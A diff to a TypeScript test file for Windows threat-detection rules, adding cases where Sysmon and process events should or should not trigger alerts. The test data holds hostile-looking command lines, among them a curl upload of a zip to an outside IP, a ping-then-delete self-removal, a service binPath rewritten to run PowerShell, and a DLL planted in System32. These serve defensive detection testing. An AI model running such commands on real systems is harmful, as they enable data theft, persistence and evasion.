@@ -850,6 +850,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(proc(15, `${S32}schtasks.exe`, 'schtasks /create /s srv2 /tn upd /tr C:\\x.exe /sc once /st 10:00'))).toContain(REMOTE);
     expect(titlesOf(proc(16, `${S32}sc.exe`, 'sc \\\\srv2 query upd'))).not.toContain(REMOTE);
     expect(titlesOf(proc(17, `${S32}schtasks.exe`, 'schtasks /query /s srv2'))).not.toContain(REMOTE);
+    expect(titlesOf(proc(17, `${S32}sc.exe`, 'sc config Fax binPath= "powershell.exe -c \\"write-host x\\""'))).not.toContain(REMOTE);
     const WINRM = 'Remote Shell Through WinRM From The Command Line';
     expect(hits([proc(18, `${S32}winrs.exe`, 'winrs -r:srv2 cmd /c whoami')]).get(WINRM)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
     expect(titlesOf(proc(19, PS, 'powershell -c Enter-PSSession -ComputerName srv2'))).toContain(WINRM);
@@ -860,6 +861,28 @@ describe('built-in Windows rules', () => {
     const CURL = 'File Uploaded With Curl';
     expect(hits([proc(23, `${S32}curl.exe`, 'curl.exe -F "file=@C:\\Users\\Public\\out.zip" https://203.0.113.9/upload')]).get(CURL)).toEqual({ level: 'low', tactics: ['exfiltration'] });
     expect(titlesOf(proc(24, `${S32}curl.exe`, 'curl.exe -o C:\\Users\\Public\\a.zip https://example.org/a.zip'))).not.toContain(CURL);
+  });
+
+  it('script hosts on the network, WinRM and RDP from unusual programs, self-deleting command lines, DLLs written into System32; near misses are not', () => {
+    const S32 = 'C:\\Windows\\System32\\';
+    const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
+    const net = (t: number, image: string, port: number): ReturnType<typeof makeEvent> =>
+      sysmon(t, 3, { Image: image, DestinationPort: port, DestinationIp: '10.0.0.5', SourceIp: '10.0.0.20', Initiated: 'true', Protocol: 'tcp' });
+    const SCRIPT = 'Network Connection From PowerShell Or A Script Host (Sysmon 3)';
+    expect(hits([net(1, PS, 8080)]).get(SCRIPT)).toEqual({ level: 'low', tactics: ['command-and-control'] });
+    expect(titlesOf(net(2, PS, 445))).not.toContain(SCRIPT);
+    const UNUSUAL = 'WinRM Or RDP Connection From An Unusual Program (Sysmon 3)';
+    expect(hits([net(3, 'C:\\Users\\Public\\ruby.exe', 5985)]).get(UNUSUAL)).toEqual({ level: 'medium', tactics: ['lateral-movement'] });
+    expect(titlesOf(net(4, 'C:\\Users\\Public\\SharpRDP.exe', 3389))).toContain(UNUSUAL);
+    expect(titlesOf(net(5, PS, 5985))).not.toContain(UNUSUAL);
+    expect(titlesOf(net(6, `${S32}mstsc.exe`, 3389))).not.toContain(UNUSUAL);
+    const SELF = 'File Deleted After A Ping Or Timeout Delay';
+    expect(hits([proc(7, `${S32}cmd.exe`, 'cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q C:\\Users\\Public\\x.exe')]).get(SELF)).toEqual({ level: 'low', tactics: ['stealth'] });
+    expect(titlesOf(proc(8, `${S32}cmd.exe`, 'cmd.exe /c ping 10.0.0.1 -n 3'))).not.toContain(SELF);
+    const DLL = 'DLL Written Into A Windows System Folder By A Non-Installer Process (Sysmon 11)';
+    expect(hits([sysmon(9, 11, { Image: `${S32}cmd.exe`, TargetFilename: `${S32}wlbsctrl.dll` })]).get(DLL)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'stealth'] });
+    expect(titlesOf(sysmon(10, 11, { Image: `${S32}msiexec.exe`, TargetFilename: `${S32}vendor.dll` }))).not.toContain(DLL);
+    expect(titlesOf(sysmon(11, 11, { Image: `${S32}cmd.exe`, TargetFilename: `${S32}DriverStore\\FileRepository\\x\\x.dll` }))).not.toContain(DLL);
   });
 
   const crate = path.join(corpora, 'evtx', 'evtx-crate');
